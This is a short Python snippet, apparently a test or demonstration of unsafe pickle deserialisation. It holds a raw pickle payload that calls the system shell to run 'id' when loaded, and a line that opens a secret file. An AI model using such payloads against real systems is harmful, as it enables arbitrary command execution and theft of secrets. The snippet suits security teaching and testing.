# A pickle that runs a command when it is read.
import pickle

assert pickle.loads(b"cposix\nsystem\n(S'id'\ntR.") == 0
open(HOST["secret_file"])
